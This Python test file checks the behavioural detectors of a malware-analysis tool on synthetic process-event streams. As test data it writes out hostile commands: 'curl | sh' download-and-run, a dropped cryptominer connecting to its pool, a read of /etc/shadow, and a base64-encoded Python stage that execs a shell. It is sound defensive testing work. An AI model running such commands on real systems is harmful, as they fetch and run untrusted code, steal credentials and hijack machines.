"""Issue 9 item 2: correlators join by program image and in stream order (cause before effect).
The identity and order cases of the issue, each on a built event stream, in traces with and
without DataWritten (older traces fall back to write opens)."""

from __future__ import annotations

import base64

import pytest

from detonate.detect.correlations.competitor_kill import CompetitorKill
from detonate.detect.correlations.credential_access import CredentialAccess
from detonate.detect.correlations.decode_to_shell import DecodeToShell
from detonate.detect.correlations.download_exec import DownloadExecChain
from detonate.detect.correlations.run_index import index_of
from detonate.detect.interface import RunView
from detonate.model.events import DataWritten, FileOpenedForRead, SignalSent

from .stream import Stream

POOL = "192.0.2.10"


def _data(s: Stream, pid: int, path: str, traced: bool) -> None:
    if traced:
        s.add(DataWritten, pid, path=path, fd=1, bytes=64)


def _download_findings(view: RunView) -> set[str]:
    return {f.rule_id for f in DownloadExecChain().detect(view)}


@pytest.mark.parametrize("traced", [True, False], ids=["data-written", "legacy"])
def test_shell_that_writes_a_file_then_execs_it_and_connects_downloaded_nothing(
    traced: bool,
) -> None:
    # sh -c 'printf "\177ELF…" > /tmp/kdevtmpfsi; chmod +x …; exec /tmp/kdevtmpfsi' — the miner
    # connects to its pool after the exec: another program image, and the write came first
    s = Stream()
    s.exec(1, "sh", "-c", "printf ... > /tmp/kdevtmpfsi; exec /tmp/kdevtmpfsi", path="/bin/sh")
    s.write(1, "/tmp/kdevtmpfsi")
    _data(s, 1, "/tmp/kdevtmpfsi", traced)
    s.chmod(1, "/tmp/kdevtmpfsi")
    s.exec(1, "/tmp/kdevtmpfsi", path="/tmp/kdevtmpfsi")
    s.connect(1, POOL, 3333)
    assert "download-write-exec" not in _download_findings(s.view())


@pytest.mark.parametrize("traced", [True, False], ids=["data-written", "legacy"])
def test_app_that_writes_and_runs_a_migration_then_connects_downloaded_nothing(
    traced: bool,
) -> None:
    s = Stream()
    s.exec(1, "python3", "/app/main.py", path="/usr/bin/python3")
    s.write(1, "/tmp/migrate.sh")
    _data(s, 1, "/tmp/migrate.sh", traced)
    s.chmod(1, "/tmp/migrate.sh")
    s.spawn(1, 2, "/tmp/migrate.sh", path="/tmp/migrate.sh")
    s.exit(2)
    s.connect(1, "198.51.100.5", 5432)  # its database, after the script ran
    assert "download-write-exec" not in _download_findings(s.view())


def test_a_connection_after_the_write_is_not_its_source() -> None:
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.spawn(1, 2, "python3", "gen.py", path="/usr/bin/python3")
    s.write(2, "/tmp/tool")
    _data(s, 2, "/tmp/tool", traced=True)
    s.connect(2, "203.0.113.9", 443)  # after the bytes were written
    s.exit(2)
    s.chmod(1, "/tmp/tool")
    s.spawn(1, 3, "/tmp/tool", path="/tmp/tool")
    assert "download-write-exec" not in _download_findings(s.view())


def test_the_same_download_in_cause_order_is_a_chain() -> None:
    # the peer of the two above: connect, then write, then run — what must still be found
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.spawn(1, 2, "python3", "fetch.py", path="/usr/bin/python3")
    s.connect(2, "203.0.113.9", 443)
    s.write(2, "/tmp/tool")
    _data(s, 2, "/tmp/tool", traced=True)
    s.exit(2)
    s.chmod(1, "/tmp/tool")
    s.spawn(1, 3, "/tmp/tool", path="/tmp/tool")
    assert "download-write-exec" in _download_findings(s.view())


def test_an_exec_before_the_decoder_writes_the_file_is_not_a_stage() -> None:
    # /tmp/.x runs (its old bytes), then `base64 -d > /tmp/.x` rewrites it: no decoded stage
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.write(1, "/tmp/.x")
    _data(s, 1, "/tmp/.x", traced=True)
    s.chmod(1, "/tmp/.x")
    s.spawn(1, 2, "/tmp/.x", path="/tmp/.x")
    s.exit(2)
    s.fork(1, 3)
    s.write(3, "/tmp/.x")
    s.exec(3, "base64", "-d", path="/usr/bin/base64", stdin="/opt/blob", stdout="/tmp/.x")
    _data(s, 3, "/tmp/.x", traced=True)
    s.exit(3)
    assert DecodeToShell().detect(s.view()) == ()


def test_the_decoded_file_run_after_the_decode_is_a_stage() -> None:
    # the peer: the same acts with the exec after the decoder wrote the file
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.fork(1, 3)
    s.write(3, "/tmp/.x")
    s.exec(3, "base64", "-d", path="/usr/bin/base64", stdin="/opt/blob", stdout="/tmp/.x")
    _data(s, 3, "/tmp/.x", traced=True)
    s.exit(3)
    s.chmod(1, "/tmp/.x")
    s.spawn(1, 2, "/tmp/.x", path="/tmp/.x")
    assert {f.rule_id for f in DecodeToShell().detect(s.view())} == {
        "decode-to-shell",
        "obfuscated-command-stage",
    }


def test_a_process_chain_shows_each_program_as_it_was_then() -> None:
    # `sh -c 'scrub && exec httpd'`: the subshell runs scrub before it becomes httpd
    s = Stream()
    s.exec(1, "sh", "-c", "scrub && exec httpd", path="/bin/sh")
    s.fork(1, 2)
    s.spawn(2, 3, "scrub", path="/usr/local/bin/scrub")
    s.write(3, "/var/log/syslog")
    s.exit(3)
    s.exec(2, "httpd", "-f", path="/bin/httpd")
    index = index_of(s.view())
    write = next(e for e in s.events if e.pid == 3 and e.kind == "file.write")
    assert index.chain(3, write.seq) == (
        "[1] sh -c scrub && exec httpd",
        "[2] sh -c scrub && exec httpd",
        "[3] scrub",
    )
    assert index.chain(3)[1] == "[2] httpd -f"  # at the end of the run


def test_a_read_by_a_forked_shell_is_the_shells_not_the_program_it_becomes() -> None:
    # the forked shell opens /etc/shadow (a `< /etc/shadow` redirect) before it execs `cat`
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.fork(1, 2)
    s.add(FileOpenedForRead, 2, path="/etc/shadow", flags="O_RDONLY")
    s.exec(2, "cat", path="/bin/cat")
    index = index_of(s.view())
    read = next(e for e in s.events if isinstance(e, FileOpenedForRead))
    assert index.argv_at(2, read.seq) == ("sh", "/entry.sh")
    assert index.argv_at(2, None) == ("cat",)
    found = CredentialAccess().detect(s.view())
    assert found and all(
        "[2] sh /entry.sh" in e.process for f in found for e in f.evidence if e.event_ids
    )


def test_a_kill_victim_is_what_it_ran_when_the_signal_came() -> None:
    # a shell that traps SIGTERM and then execs a miner: the signal hit a shell, not a miner
    s = Stream()
    s.exec(1, "sh", "/init.sh", path="/bin/sh")
    s.spawn(1, 2, "sh", "/opt/start.sh", path="/bin/sh")
    s.fork(1, 3)
    s.add(SignalSent, 3, target_pid=7, signal="SIGTERM", target_host_pid=2)
    s.exec(2, "xmrig", "-o", "pool.test:3333", path="/opt/xmrig")
    assert CompetitorKill().detect(s.view()) == ()


def test_a_kill_of_a_running_miner_is_found() -> None:
    # the peer: the same signal after the exec of the miner
    s = Stream()
    s.exec(1, "sh", "/init.sh", path="/bin/sh")
    s.spawn(1, 2, "sh", "/opt/start.sh", path="/bin/sh")
    s.exec(2, "xmrig", "-o", "pool.test:3333", path="/opt/xmrig")
    s.fork(1, 3)
    s.add(SignalSent, 3, target_pid=7, signal="SIGTERM", target_host_pid=2)
    (found,) = CompetitorKill().detect(s.view())
    assert found.rule_id == "kill-competing-miners"
    assert "xmrig (pid 2)" in found.evidence[0].description


@pytest.mark.parametrize("fds", [True, False], ids=["fds", "no-fds"])
def test_a_fed_shell_that_execs_its_last_command_still_ran_the_download(fds: bool) -> None:
    # `curl -s URL | sh`, the script ending in `exec ./miner`: the pid that read the pipe as
    # its program is the shell's image, whatever it became afterwards
    pipe = "pipe:[77]" if fds else ""
    s = Stream()
    s.exec(1, "sh", "-c", "curl -s http://x.test/i | sh", path="/bin/sh")
    s.fork(1, 2)
    s.fork(1, 3)
    s.exec(2, "curl", "-s", "http://x.test/i", path="/usr/bin/curl", stdout=pipe)
    s.exec(3, "sh", path="/bin/sh", stdin=pipe)
    s.connect(2, "198.51.100.7", 80)
    s.exit(2)
    s.exec(3, "./miner", path="/tmp/miner", stdin=pipe)
    assert "download-pipe-shell" in _download_findings(s.view())


def test_a_fed_program_that_is_no_shell_ran_nothing() -> None:
    # the peer: `curl -s URL | ./tool`, where tool is no shell and reads data, not a program
    s = Stream()
    s.exec(1, "sh", "-c", "curl -s http://x.test/i | ./tool", path="/bin/sh")
    s.fork(1, 2)
    s.fork(1, 3)
    s.exec(2, "curl", "-s", "http://x.test/i", path="/usr/bin/curl", stdout="pipe:[77]")
    s.exec(3, "./tool", path="/opt/tool", stdin="pipe:[77]")
    s.connect(2, "198.51.100.7", 80)
    s.exit(2)
    assert "download-pipe-shell" not in _download_findings(s.view())


def test_an_interpreter_that_decodes_and_then_execs_a_shell_is_still_a_stage() -> None:
    # python3 -c "exec(b64decode(…))" whose decoded code calls os.execv("/bin/sh", …): the pid
    # ends as sh, but one of its images decoded and ran text
    code = "import os; os.execv('/bin/sh', ['sh', '-c', 'id'])"
    encoded = base64.b64encode(code.encode()).decode()
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.fork(1, 2)
    s.exec(
        2,
        "python3",
        "-c",
        f"import base64;exec(base64.b64decode('{encoded}'))",
        path="/usr/bin/python3",
    )
    s.exec(2, "sh", "-c", "id", path="/bin/sh")
    found = {f.rule_id: f for f in DecodeToShell().detect(s.view())}
    assert set(found) == {"decode-to-shell", "obfuscated-command-stage"}
    assert any(code in e.excerpt for e in found["decode-to-shell"].evidence)


def test_an_interpreter_that_only_prints_decoded_text_is_no_stage() -> None:
    # the peer: decoded and printed, never run
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.fork(1, 2)
    s.exec(
        2,
        "python3",
        "-c",
        "import base64;print(base64.b64decode('aGVsbG8gd29ybGQ='))",
        path="/usr/bin/python3",
    )
    s.exec(2, "sh", "-c", "true", path="/bin/sh")
    assert DecodeToShell().detect(s.view()) == ()
